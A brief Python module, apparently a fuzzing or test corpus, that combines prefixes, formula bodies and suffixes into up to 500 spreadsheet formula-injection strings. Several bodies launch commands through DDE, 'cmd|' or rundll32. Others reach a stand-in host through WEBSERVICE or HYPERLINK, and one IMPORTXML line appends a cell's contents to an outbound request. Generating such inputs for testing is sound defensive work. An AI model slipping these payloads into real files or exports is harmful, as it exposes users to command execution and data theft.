"""What a spreadsheet would run if it were let: five hundred beginnings, middles and ends put together."""

from itertools import islice, product

OPENERS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", "{=", "|", "%", '"=')
BODIES = (
    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test","see")', "A1", "-1", "2+5+cmd"),
    *('DDE("cmd";"/C calc";"x")', 'IMPORTXML(CONCAT("//x";A1))', "@SUM(1+1)", "1/0", "RAND()", "NOW()"),
    *('WEBSERVICE("http://x.test")', "rundll32|'URL.dll'!A", "INDIRECT(A1)", "TRUE", "1e9", "0x1F"),
)
TAILS = ("", " ", "\n", ",", ";", '"', "\r\n", "<r>", "&amp;")
PAYLOADS = ["".join(one) for one in islice(product(OPENERS, BODIES, TAILS), 0, None, 4)][:500]
